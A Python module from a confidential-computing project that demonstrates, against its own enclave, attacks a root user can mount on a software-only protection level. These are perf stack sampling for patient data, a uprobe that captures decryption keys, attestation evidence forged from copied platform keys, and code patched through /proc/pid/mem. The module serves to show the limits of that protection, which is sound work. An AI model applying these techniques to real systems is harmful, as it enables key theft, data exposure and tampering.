"""Attacks that this protection level does not prevent: an active root, run and seen to succeed.

Each function really attacks an enclave while it opens the owners' data, and reports what it got. A hardware
TEE prevents these.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from kluis.cleanroom.agreement import exchange
from kluis.cleanroom.agreement.documents import decode
from kluis.cleanroom.agreement.keys import SealingKey
from kluis.cleanroom.data import datasets
from kluis.cleanroom.running import conduct
from kluis.cli.demo.attempt import Attempt
from kluis.cli.demo.process import host_application
from kluis.cli.demo.stage import Calls, Stage, now
from kluis.errors import KluisError
from kluis.formats.kluis.launch import config_id
from kluis.formats.kluis.runtime_data import Purpose, RuntimeData, report_data
from kluis.formats.sgx.report import Flag
from kluis.host.proxy import EnclaveProxy
from kluis.tee.doctor import probes
from kluis.tee.platform.root.quoting import PlatformKeys, make_quote
from kluis.tee.platform.root.reports import make_report_body
from kluis.tee.process import native

EVENT = f"kluis_demo_{os.getpid()}/key"
PROBED = "PyBytes_AsString"  # what extension modules call to get at a bytes object, a key for one
PERF_RUNS = 3
"""How many runs perf watches until it finds something: it copies only what is on a stack as it looks."""
_SIZE, _VALUE = 16, 32  # of a bytes object: its length, and its first byte
_WORDS = re.compile(r"size=(\d+) a=(0x[0-9a-f]+) b=(0x[0-9a-f]+) c=(0x[0-9a-f]+) d=(0x[0-9a-f]+)")


@dataclass
class Seen:
    """What root's tools recorded while the enclave computed."""

    perf: Path | None = None
    probed: list[bytes] = field(default_factory=list)
    lacking: str = ""


def attempts(stage: Stage) -> Iterator[Attempt]:
    """Run the room once more under root's tools, and report what each got."""
    if os.geteuid() != 0:
        with stage.start() as enclave:
            conduct.conduct(Calls(enclave), stage.room, stage.participants(), stage.platform.collateral())
            if enclave.level == "process-user":
                yield host_application(enclave.pid)
        yield Attempt("root", "perf, a uprobe, a patched code page", "needs root: sudo make demo", None)
        return
    for left in range(PERF_RUNS - 1, -1, -1):
        seen = Seen()
        with stage.start() as enclave:  # which makes one run
            watched = _Watched(stage, enclave, seen)
            conduct.conduct(watched, stage.room, stage.participants(), stage.platform.collateral())
            found = perf(stage, seen)
            if found.refused and left:
                continue
            yield found
            yield uprobe(stage, seen)
            yield forge_evidence(stage, enclave.evidence(bytes(32)).launch_configuration)
            yield patched_page(enclave)
            return


def perf(stage: Stage, seen: Seen) -> Attempt:
    """Look for persons in the stacks that perf copied."""
    tried = "perf copies its stacks while it computes"
    if seen.perf is None or not seen.perf.exists():
        return Attempt("root", tried, "perf is not installed here, or not allowed", None)
    words = np.fromfile(seen.perf, dtype=np.uint64, count=seen.perf.stat().st_size // 8)
    known = stage.tables["people"]["bmi"].drop_nulls().to_numpy().astype(np.float64)
    wanted = np.unique(known[known != np.round(known, 1)].view(np.uint64))
    at = np.searchsorted(wanted, words).clip(max=len(wanted) - 1)
    count = len(np.unique(words[wanted[at] == words]))
    if count == 0:
        return Attempt("root", tried, f"nobody's body mass index in the stacks of {PERF_RUNS} runs", True)
    got = f"{words.nbytes / 1e6:.0f} MB of stacks, {count} people's body mass index in them"
    return Attempt("root", tried, got, False)


def uprobe(stage: Stage, seen: Seen) -> Attempt:
    """Try every 32 bytes that the probe recorded as the key of the clinic's file."""
    tried = f"a uprobe on {PROBED} reads a data key"
    if seen.lacking:
        return Attempt("root", tried, seen.lacking, None)
    people = stage.agreement.dataset("people")
    for candidate in dict.fromkeys(seen.probed):
        with contextlib.suppress(KluisError):
            table = datasets.open_sealed(
                [stage.sealed_file("people")], candidate, stage.agreement.room, people
            )
            return Attempt("root", tried, f"the clinic's file opens: {len(table):,} patients", False)
    return Attempt("root", tried, f"{len(seen.probed)} values, none opens the file", True)


def forge_evidence(stage: Stage, launch: bytes) -> Attempt:
    """Read the platform's own keys, and sign evidence for the attacker's key."""
    tried = "reads the platform's key files, and forges evidence"
    copy = stage.folder / "platform"
    shutil.copytree(stage.platform.places.state / "platform", copy)  # the copies are root's own
    mine, run, owner = SealingKey.generate(), os.urandom(32).hex(), stage.owner("clinic")
    challenge = owner.challenge()
    code = stage.agreement.code
    document = RuntimeData(
        purpose=Purpose.RELEASE_KEY,
        image_id=bytes.fromhex(code.image_id),
        nonce=challenge.nonce,
        payload=exchange.offer_payload(stage.agreement.hash, run, "clinic", mine.public),
    ).encode()
    try:
        keys = PlatformKeys.load(copy)
        body = make_report_body(
            cpusvn=keys.cpusvn,
            flags=Flag.INIT | Flag.MODE64 | Flag.KSS,
            mrenclave=bytes.fromhex(code.image_id),
            mrsigner=bytes.fromhex(code.measurements[0].mrsigner),
            isvprodid=code.product_id,
            isvsvn=code.svn_min,
            configid=config_id(launch),
            report_data=report_data(document),
        )
        evidence = exchange.Evidence(
            quote=make_quote(body, keys), runtime_data=document, launch_configuration=launch
        )
        offer = exchange.Offer(party="clinic", evidence=evidence)
        release = owner.release(offer, stage.platform.collateral(), now())
    except (OSError, KluisError) as error:
        return Attempt("root", tried, str(error), True)
    sent = decode(release.statement, exchange.ReleaseStatement, "release").keys[0]
    info = exchange.release_info(stage.agreement.hash, run, "clinic", sent.dataset, sent.version)
    people = stage.agreement.dataset("people")
    key = mine.open(sent.sealed, info)
    table = datasets.open_sealed([stage.sealed_file("people")], key, stage.agreement.room, people)
    return Attempt("root", tried, f"the clinic sends its key to root: {len(table):,} patients", False)


def patched_page(enclave: EnclaveProxy) -> Attempt:
    """Overwrite a function of the running enclave, which keeps running and attests as before."""
    tried = "writes over a function of the running code"
    try:
        start = _find_address(enclave.pid, "libc.so.6", "labs")
        with open(f"/proc/{enclave.pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(start)
            before = memory.read(1)
            memory.seek(start)
            memory.write(b"\xc3")
            memory.seek(start)
            changed = memory.read(1) == b"\xc3" != before
        enclave.evidence(bytes(32))
    except (OSError, LookupError, KluisError) as error:
        return Attempt("root", tried, str(error).lower(), True)
    return Attempt("root", tried, "changed; its evidence still names the old code", not changed)


class _Watched(Calls):
    """An enclave whose run is watched by perf and by a uprobe."""

    def __init__(self, stage: Stage, enclave: EnclaveProxy, seen: Seen) -> None:
        super().__init__(enclave)
        self._out, self._pid, self._seen = stage.folder / "perf.data", enclave.pid, seen

    def run(self) -> tuple[dict[str, bytes], bytes]:
        """Run the analyses, watched."""
        with _perf(self._out, self._pid, self._seen), _probe(self._pid, self._seen):
            return super().run()


@contextlib.contextmanager
def _perf(out: Path, pid: int, seen: Seen) -> Iterator[None]:
    if shutil.which("perf") is None:
        yield
        return
    line = ["perf", "record", "-q", "-o", str(out), "-e", "cpu-clock", "-F", "999"]
    line += ["--call-graph", "dwarf,16384", "-p", str(pid)]
    with subprocess.Popen(line, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as recording:
        try:
            time.sleep(0.3)  # until it has attached
            yield
        finally:
            recording.send_signal(signal.SIGINT)
    seen.perf = out


@contextlib.contextmanager
def _probe(pid: int, seen: Seen) -> Iterator[None]:
    fetch = " ".join(f"{name}=+{_VALUE + 8 * i}(%di):x64" for i, name in enumerate("abcd"))
    with contextlib.ExitStack() as stack:
        trace = None
        try:
            probe = probes.uprobe(
                EVENT, _interpreter(pid), PROBED, f"size=+{_SIZE}(%di):u64 {fetch}", "size == 32"
            )
            trace = stack.enter_context(probe)
        except (OSError, LookupError, subprocess.CalledProcessError) as error:
            seen.lacking = f"not possible here: {error}".lower()
        yield
        for match in _WORDS.finditer(trace.read_text(errors="replace") if trace else ""):
            seen.probed.append(b"".join(int(match[i], 16).to_bytes(8, "little") for i in range(2, 6)))


def _interpreter(pid: int) -> str:
    """The file of the enclave that contains the probed function of the interpreter."""
    root = Path(f"/proc/{pid}/root")
    for file in [*(root / "k/python/lib").glob("libpython3*.so*"), *(root / "k/python/bin").iterdir()]:
        with contextlib.suppress(LookupError):
            probes.offset(str(file), PROBED)
            return str(file)
    raise LookupError(PROBED)


def _find_address(pid: int, library: str, function: str) -> int:
    """The address of a function in the running enclave."""
    offset = probes.offset(f"/proc/{pid}/root{native.INSIDE}/{library}", function)
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        where, mode, position, *_, name = line.split()
        start, end = (int(each, 16) for each in where.split("-"))
        within = offset - int(position, 16)
        if name.endswith(f"/{library}") and "x" in mode and 0 <= within < end - start:
            return start + within
    raise LookupError(function)
